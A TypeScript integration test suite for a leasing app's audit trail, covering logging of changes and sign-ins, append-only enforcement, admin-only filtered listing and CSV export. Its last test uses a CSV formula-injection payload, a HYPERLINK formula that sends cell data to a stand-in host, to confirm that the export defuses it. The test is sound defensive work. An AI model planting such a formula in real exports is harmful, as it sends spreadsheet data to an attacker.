import { randomUUID } from 'node:crypto';
import { beforeAll, describe, expect, it } from 'vitest';
import { eq, sql } from 'drizzle-orm';
import { apiKeyScopes, type AuditPage } from '@leasing/contract';
import { auditLog, type LeadRow } from '../../db/schema/index.js';
import { createLead, createOffice, createUser, type Office } from '../../test/factories.js';
import { oneDatabase } from '../../test/test-app.js';
import { useTestApp } from '../../test/use-test-app.js';

describe.each(oneDatabase())('the audit trail ($name)', (target) => {
  const ctx = useTestApp(target);
  let office: Office;
  let admin: string;
  let agent: string;
  let agentId: string;
  let lead: LeadRow;
  let apiKey: string;

  beforeAll(async () => {
    office = await createOffice(ctx.db);
    lead = await createLead(ctx.db, office.property, { name: 'Maya Patel' });
    const agentUser = await createUser(ctx.db, office.company.id, { role: 'agent' });
    agentId = agentUser.user.id;
    agent = await ctx.signIn(agentUser.credentials);
    admin = await ctx.signIn(office.staff.credentials);
  });

  const trail = async (query = '', as = admin) =>
    ctx.request<AuditPage>('GET', `/api/audit${query}`, { as });
  const rowsOf = (action: string) =>
    ctx.db
      .select()
      .from(auditLog)
      .where(sql`${auditLog.action} = ${action} and ${auditLog.companyId} = ${office.company.id}`);

  it('writes a row for each change a person or a key makes, with who, what, the address and the request id', async () => {
    const requestId = randomUUID();
    const note = await ctx.request('POST', `/api/leads/${lead.id}/notes`, {
      as: agent,
      headers: { 'x-request-id': requestId },
      payload: { leadID: lead.id, companyID: office.company.id, text: 'Prefers a ground floor' },
    });
    expect(note.status).toBe(200);
    const [noteRow] = await rowsOf('note.added');
    expect(noteRow).toMatchObject({
      actorType: 'user',
      actorUserId: agentId,
      leadId: lead.id,
      targetType: 'note',
      requestId,
      ip: '127.0.0.1',
    });

    const key = await ctx.request<{ key: string; apiKey: { _id: string } }>(
      'POST',
      '/api/api-keys',
      { as: admin, payload: { name: 'Yardi sync', scopes: [...apiKeyScopes] } },
    );
    expect(key.status).toBe(201);
    apiKey = key.body.key;
    expect(await rowsOf('api_key.created')).toEqual([
      expect.objectContaining({ actorUserId: office.staff.user.id, targetId: key.body.apiKey._id }),
    ]);

    const number = await ctx.request('POST', '/api/numbers', {
      as: admin,
      payload: { number: '+15125550654' },
    });
    expect(number.status).toBe(201);
    expect((await rowsOf('number.added'))[0]?.after).toEqual({ number: '+15125550654' });

    const link = await ctx.request('POST', `/api/leads/${lead.id}/access-links`, {
      as: agent,
      payload: {},
    });
    expect(link.status).toBe(200);
    expect(await rowsOf('access_link.created')).toHaveLength(1);

    // A key's changes name the key.
    const property = await ctx.request('PUT', '/api/integrations/v1/properties/AUDIT-1', {
      headers: { authorization: `Bearer ${apiKey}` },
      payload: { name: 'Audit Court' },
    });
    expect(property.status).toBe(201);
    expect(await rowsOf('property.upserted')).toEqual([
      expect.objectContaining({
        actorType: 'api-key',
        actorApiKeyId: key.body.apiKey._id,
        actorName: 'Yardi sync',
        after: { created: true, changed: ['name'] },
      }),
    ]);
  });

  it('records sign-ins, and failed ones for the company whose account was tried', async () => {
    const before = (await rowsOf('auth.sign_in_failed')).length;
    await ctx.signIn(office.staff.credentials);
    const wrong = await ctx.request('POST', '/api/auth/login', {
      payload: { email: office.staff.credentials.email, password: 'not-the-password' },
    });
    expect(wrong.status).toBe(401);
    expect((await rowsOf('auth.signed_in')).length).toBeGreaterThanOrEqual(1);
    const failed = await rowsOf('auth.sign_in_failed');
    expect(failed).toHaveLength(before + 1);
    expect(failed.at(-1)).toMatchObject({
      actorType: 'anonymous',
      actorName: office.staff.credentials.email,
      after: { reason: 'invalid credentials' },
    });
  });

  it('is append-only: the database refuses to change or delete a row', async () => {
    const [row] = await rowsOf('note.added');
    expect(row).toBeDefined();
    // What the database answered (drizzle wraps it as the cause of its own error).
    const refusal = (attempt: Promise<unknown>) =>
      attempt.then(
        () => 'allowed',
        (error: Error & { cause?: Error }) => String(error.cause?.message ?? error.message),
      );
    expect(
      await refusal(
        ctx.db.update(auditLog).set({ actorName: 'Someone else' }).where(eq(auditLog.id, row!.id)),
      ),
    ).toMatch(/append-only: UPDATE/);
    expect(await refusal(ctx.db.delete(auditLog).where(eq(auditLog.id, row!.id)))).toMatch(
      /append-only: DELETE/,
    );
    expect(await refusal(ctx.db.execute(sql`truncate audit_log`))).toMatch(/append-only: TRUNCATE/);
    expect((await rowsOf('note.added'))[0]).toEqual(row);
  });

  it('lists the trail to admins only, newest first, by keyset pages and filters', async () => {
    expect((await trail('', agent)).status).toBe(403);

    const all: string[] = [];
    let cursor: string | null = null;
    do {
      const page: AuditPage = (await trail(`?limit=2${cursor ? `&cursor=${cursor}` : ''}`)).body;
      all.push(...page.items.map((item) => item._id));
      cursor = page.nextCursor;
    } while (cursor);
    const everything = (await trail('?limit=200')).body.items;
    expect(all).toEqual(everything.map((item) => item._id));
    expect(new Set(all).size).toBe(all.length);
    const times = everything.map((item) => item.occurredAt);
    expect([...times].sort().reverse()).toEqual(times);

    const byAgent = (await trail(`?userId=${agentId}`)).body.items;
    expect(byAgent.map((item) => item.action).sort()).toEqual([
      'access_link.created',
      'auth.signed_in',
      'note.added',
    ]);
    const byLead = (await trail(`?leadId=${lead.id}`)).body.items;
    // What the lead's link needs: its page is addressed by property and PMS id.
    expect(byLead.every((item) => item.lead?.name === 'Maya Patel')).toBe(true);
    expect(byLead[0]!.lead).toEqual({
      _id: lead.id,
      name: 'Maya Patel',
      propertyID: lead.propertyId,
      pmsLeadId: lead.pmsLeadId,
    });
    expect(byLead.length).toBeGreaterThanOrEqual(2);
    const notes = (await trail('?action=note.added')).body.items;
    expect(notes).toHaveLength(1);
    const future = new Date(Date.now() + 3_600_000).toISOString();
    expect((await trail(`?from=${encodeURIComponent(future)}`)).body.items).toEqual([]);

    const backwards = await ctx.request<{ error: { details: { path: string }[] } }>(
      'GET',
      `/api/audit?from=${encodeURIComponent(future)}&to=${encodeURIComponent(new Date().toISOString())}`,
      { as: admin },
    );
    expect(backwards.status).toBe(400);
    expect(backwards.body.error.details.map((d) => d.path)).toContain('querystring.to');

    // Another company's admin sees none of it.
    const other = await createOffice(ctx.db);
    const otherAdmin = await ctx.signIn(other.staff.credentials);
    const theirs = (await trail('', otherAdmin)).body.items;
    expect(theirs.every((item) => item.actor.userId !== agentId)).toBe(true);
    expect(theirs.map((item) => item.action)).toEqual(['auth.signed_in']);
  });

  it('lists every action it records, also those the page had no name for (templates)', async () => {
    const made = await ctx.request('POST', '/api/templates', {
      as: admin,
      payload: { name: 'Tour reminder', channel: 'SMS', body: 'See you soon', scope: 'company' },
    });
    expect(made.status).toBe(201);
    const listed = await trail('?action=template.created');
    expect(listed.status).toBe(200);
    expect(listed.body.items.map((item) => item.after)).toEqual([
      { name: 'Tour reminder', scope: 'company' },
    ]);
    expect((await trail()).status).toBe(200);
  });

  it('exports the filtered trail as a CSV download', async () => {
    const response = await ctx.request('GET', '/api/audit/export?action=note.added', { as: admin });
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toContain('text/csv');
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="audit-/);
    const lines = response.text.trim().split('\n');
    expect(lines[0]).toBe('time,action,actor,actor type,lead,target,before,after,ip,request id');
    expect(lines).toHaveLength(2);
    expect(lines[1]).toContain('Added a note');
    expect(lines[1]).toContain('Maya Patel');
    expect((await ctx.request('GET', '/api/audit/export', { as: agent })).status).toBe(403);
  });

  it('exports names that begin like a formula as text, and leaves other names as they are', async () => {
    const hostileName = '=HYPERLINK("https://evil.test/?d="&A1,"Open")';
    const hostile = await createUser(ctx.db, office.company.id, { name: hostileName });
    const hostileLead = await createLead(ctx.db, office.property, { name: '@SUM(1+1)' });
    const as = await ctx.signIn(hostile.credentials);
    for (const leadId of [hostileLead.id, lead.id]) {
      const note = await ctx.request('POST', `/api/leads/${leadId}/notes`, {
        as,
        payload: { leadID: leadId, companyID: office.company.id, text: 'Called back' },
      });
      expect(note.status).toBe(200);
    }
    const response = await ctx.request('GET', '/api/audit/export?action=note.added', { as: admin });
    const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;
    expect(response.text).toContain(`,${quoted(`'${hostileName}`)},user,'@SUM(1+1),`);
    expect(response.text).toContain(`,${quoted(`'${hostileName}`)},user,Maya Patel,`);
    // No cell anywhere begins with a formula character.
    expect(response.text).not.toMatch(/(^|,)"?[=+\-@\t\r]/m);
    // Positive control: the agent's note of the first test keeps its name and lead untouched.
    expect(response.text).toContain(',Maya Patel,');
  });
});
